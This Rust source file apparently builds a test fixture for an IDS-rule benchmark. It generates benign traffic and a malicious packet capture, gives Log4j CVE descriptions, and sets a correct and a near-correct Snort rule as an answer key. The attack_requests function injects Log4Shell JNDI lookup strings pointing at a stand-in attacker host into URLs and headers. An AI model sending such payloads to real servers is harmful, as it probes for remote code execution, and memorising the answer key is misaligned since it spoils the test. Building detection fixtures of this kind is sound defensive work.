//! A deterministic Log4j fixture: benign web and DNS traffic, and a
//! malicious capture that replays part of it alongside JNDI lookup
//! requests to port 8080.

use std::fs;
use std::net::SocketAddrV4;
use std::path::{Path, PathBuf};

use serde_json::Map;

use crate::dataset::{write_record, DatasetError, VulnRecord};
use crate::pcap::tcp_flags::{ACK, FIN, PSH, SYN};
use crate::pcap::{Capture, Packet};
use crate::task::{Task, TaskConfig};
use crate::validator::port_content_spec;

pub const CORRECT_RULE: &str =
    r#"alert tcp any any -> any 8080 (msg:"Log4j JNDI lookup"; content:"jndi:dns"; sid:1000001;)"#;
pub const NEAR_CORRECT_RULE: &str =
    r#"alert tcp any any -> any 80 (msg:"Log4j JNDI lookup"; content:"jndi:ldap"; sid:1000001;)"#;

pub const LOG4J_DESCRIPTION: &str = "Apache Log4j2 2.0-beta9 through 2.15.0 JNDI features used in \
configuration, log messages, and parameters do not protect against attacker controlled LDAP and other \
JNDI related endpoints. An attacker who can control log messages or log message parameters can execute \
arbitrary code loaded from remote servers when message lookup substitution is enabled. Exploit requests \
carry lookup strings such as ${jndi:ldap://host/a} or ${jndi:dns://host/a} in the URL, the User-Agent \
header or the X-Api-Version header of requests sent to the web service on port 8080.";

const WEB: &str = "10.0.0.5:8080";
const STATIC: &str = "10.0.0.6:80";
const RESOLVER: &str = "10.0.0.53:53";

const API_RESPONSE: &[u8] = b"HTTP/1.1 200 OK\r\nServer: Apache-Coyote/1.1\r\nContent-Type: application/json\r\n\
Content-Length: 15\r\n\r\n{\"status\":\"ok\"}";

fn addr(s: &str) -> SocketAddrV4 {
    s.parse().expect("valid fixture address")
}

struct Builder {
    packets: Vec<Packet>,
    t: u64,
}

impl Builder {
    fn new(t: u64) -> Self {
        Builder { packets: Vec::new(), t }
    }

    fn tick(&mut self) -> u64 {
        self.t += 1_000;
        self.t
    }

    /// Handshake, request segments, response, teardown; then two idle
    /// seconds.
    fn tcp_exchange(&mut self, client: SocketAddrV4, server: SocketAddrV4, request: &[&[u8]], response: &[u8]) {
        let (mut cs, mut ss) = (1_000u32, 50_000u32);
        let t = self.tick();
        self.packets.push(Packet::tcp(t, client, server, SYN, cs, b""));
        let t = self.tick();
        self.packets.push(Packet::tcp(t, server, client, SYN | ACK, ss, b""));
        cs += 1;
        ss += 1;
        let t = self.tick();
        self.packets.push(Packet::tcp(t, client, server, ACK, cs, b""));
        for seg in request {
            let t = self.tick();
            self.packets.push(Packet::tcp(t, client, server, PSH | ACK, cs, seg));
            cs += seg.len() as u32;
        }
        let t = self.tick();
        self.packets.push(Packet::tcp(t, server, client, ACK, ss, b""));
        let t = self.tick();
        self.packets
            .push(Packet::tcp(t, server, client, PSH | ACK, ss, response));
        ss += response.len() as u32;
        let t = self.tick();
        self.packets.push(Packet::tcp(t, client, server, FIN | ACK, cs, b""));
        let t = self.tick();
        self.packets.push(Packet::tcp(t, server, client, FIN | ACK, ss, b""));
        self.t += 2_000_000;
    }

    fn dns_exchange(&mut self, client: SocketAddrV4, id: u16, name: &str) {
        let query = dns_message(id, name, false);
        let answer = dns_message(id, name, true);
        let t = self.tick();
        self.packets.push(Packet::udp(t, client, addr(RESOLVER), &query));
        let t = self.tick();
        self.packets.push(Packet::udp(t, addr(RESOLVER), client, &answer));
        self.t += 2_000_000;
    }
}

fn dns_message(id: u16, name: &str, answer: bool) -> Vec<u8> {
    let mut m = id.to_be_bytes().to_vec();
    m.extend_from_slice(if answer { &[0x81, 0x80] } else { &[0x01, 0x00] });
    m.extend_from_slice(&[0, 1, 0, u8::from(answer), 0, 0, 0, 0]);
    for label in name.split('.') {
        m.push(label.len() as u8);
        m.extend_from_slice(label.as_bytes());
    }
    m.extend_from_slice(&[0, 0, 1, 0, 1]);
    if answer {
        m.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, 93, 184, 216, 34]);
    }
    m
}

fn api_request(path: &str, agent: &str, extra: &str) -> Vec<u8> {
    format!(
        "GET {path} HTTP/1.1\r\nHost: 10.0.0.5:8080\r\nUser-Agent: {agent}\r\nAccept: application/json\r\n{extra}\r\n"
    )
    .into_bytes()
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:95.0) Gecko/20100101 Firefox/95.0";

fn benign_api_requests() -> Vec<Vec<u8>> {
    vec![
        api_request("/api/status", BROWSER, ""),
        api_request("/api/v1/users?page=2", BROWSER, "Cookie: session=3f9a1c\r\n"),
        api_request("/api/v1/orders/1187", "curl/7.81.0", ""),
        api_request("/api/health", "kube-probe/1.23", ""),
        api_request(
            "/api/v1/search?q=printer+toner",
            BROWSER,
            "Referer: http://10.0.0.5:8080/\r\n",
        ),
        api_request("/api/v1/items?sort=price", BROWSER, "X-Api-Version: 2\r\n"),
        api_request("/api/metrics", "prometheus/2.32.1", ""),
        api_request("/api/v1/cart", BROWSER, "Cookie: session=77be02\r\n"),
    ]
}

fn attack_requests() -> Vec<Vec<Vec<u8>>> {
    let lookup = |n: u32| format!("${{jndi:dns://x7.attacker.example/{n}}}");
    vec![
        vec![api_request(&format!("/api/v1/search?q={}", lookup(1)), BROWSER, "")],
        vec![api_request("/api/status", &lookup(2), "")],
        vec![api_request(
            "/api/v1/items",
            "curl/7.81.0",
            &format!("X-Api-Version: {}\r\n", lookup(3)),
        )],
        {
            // Header block split over two segments.
            let full = api_request("/api/health", &lookup(4), "");
            let (a, b) = full.split_at(40);
            vec![a.to_vec(), b.to_vec()]
        },
    ]
}

fn static_page(path: &str) -> (Vec<u8>, Vec<u8>) {
    let req = format!("GET {path} HTTP/1.1\r\nHost: 10.0.0.6\r\nUser-Agent: {BROWSER}\r\nAccept: */*\r\n\r\n");
    let body = format!("<html><head><title>{path}</title></head><body>static content</body></html>");
    let resp = format!(
        "HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    (req.into_bytes(), resp.into_bytes())
}

const STATIC_PATHS: [&str; 4] = ["/", "/about.html", "/css/site.css", "/js/app.js"];
const DNS_NAMES: [&str; 4] = [
    "www.example.com",
    "api.example.com",
    "cdn.example.net",
    "mail.example.org",
];

fn client(i: usize) -> SocketAddrV4 {
    SocketAddrV4::new([10, 0, 0, 2 + (i % 3) as u8].into(), 40_000 + i as u16)
}

/// Benign traffic: eight API calls to the 8080 service, four static pages
/// on port 80 and four DNS lookups.
pub fn benign_capture() -> Capture {
    let mut b = Builder::new(1_600_000_000_000_000);
    for (i, req) in benign_api_requests().iter().enumerate() {
        b.tcp_exchange(client(i), addr(WEB), &[req], API_RESPONSE);
    }
    for (i, path) in STATIC_PATHS.iter().enumerate() {
        let (req, resp) = static_page(path);
        b.tcp_exchange(client(10 + i), addr(STATIC), &[&req], &resp);
    }
    for (i, name) in DNS_NAMES.iter().enumerate() {
        b.dns_exchange(client(20 + i), 0x1000 + i as u16, name);
    }
    Capture::from_packets(b.packets)
}

/// Half of the benign traffic interleaved with four JNDI lookup attacks.
/// The server answers attacks exactly as it answers benign calls.
pub fn malicious_capture() -> Capture {
    let mut b = Builder::new(1_600_100_000_000_000);
    let benign = benign_api_requests();
    let attacks = attack_requests();
    for i in 0..4 {
        b.tcp_exchange(client(30 + i), addr(WEB), &[&benign[i]], API_RESPONSE);
        let segs: Vec<&[u8]> = attacks[i].iter().map(Vec::as_slice).collect();
        b.tcp_exchange(
            SocketAddrV4::new([203, 0, 113, 7].into(), 51_000 + i as u16),
            addr(WEB),
            &segs,
            API_RESPONSE,
        );
    }
    for (i, path) in STATIC_PATHS.iter().take(2).enumerate() {
        let (req, resp) = static_page(path);
        b.tcp_exchange(client(40 + i), addr(STATIC), &[&req], &resp);
    }
    for (i, name) in DNS_NAMES.iter().take(2).enumerate() {
        b.dns_exchange(client(50 + i), 0x2000 + i as u16, name);
    }
    Capture::from_packets(b.packets)
}

pub fn log4j_record() -> VulnRecord {
    VulnRecord {
        name: "log4j".into(),
        cve: vec!["CVE-2021-44228".into(), "CVE-2021-45046".into()],
        vd: LOG4J_DESCRIPTION.into(),
        devices: vec!["java-web-server".into()],
        pcap_pos: vec![PathBuf::from("pos.pcap")],
        pcap_neg: vec![PathBuf::from("neg.pcap")],
        proto: "HTTP".into(),
        distilled: Some(vec![CORRECT_RULE.into()]),
        extra: Map::new(),
        base_dir: PathBuf::new(),
    }
}

/// The fixture as a task, identical to loading it from disk.
pub fn log4j_task() -> Task {
    Task::from_captures(
        &log4j_record(),
        &[("pos.pcap".into(), malicious_capture())],
        &[("neg.pcap".into(), benign_capture())],
        &TaskConfig::default(),
    )
    .expect("fixture has both sides")
}

/// Writes `<dir>/log4j/{record.json,pos.pcap,neg.pcap,ntot.json}` and
/// returns the record path.
pub fn write_log4j_dataset(dir: &Path) -> Result<PathBuf, DatasetError> {
    let root = dir.join("log4j");
    let io = |path: &Path| {
        let path = path.to_path_buf();
        move |source| DatasetError::Io { path, source }
    };
    fs::create_dir_all(&root).map_err(io(&root))?;
    let pos = root.join("pos.pcap");
    fs::write(&pos, malicious_capture().to_bytes()).map_err(io(&pos))?;
    let neg = root.join("neg.pcap");
    fs::write(&neg, benign_capture().to_bytes()).map_err(io(&neg))?;
    let spec = root.join("ntot.json");
    let text = serde_json::to_string_pretty(&port_content_spec(8080, "jndi")).expect("spec serializes");
    fs::write(&spec, text + "\n").map_err(io(&spec))?;
    let record = root.join("record.json");
    write_record(&log4j_record(), &record)?;
    Ok(record)
}
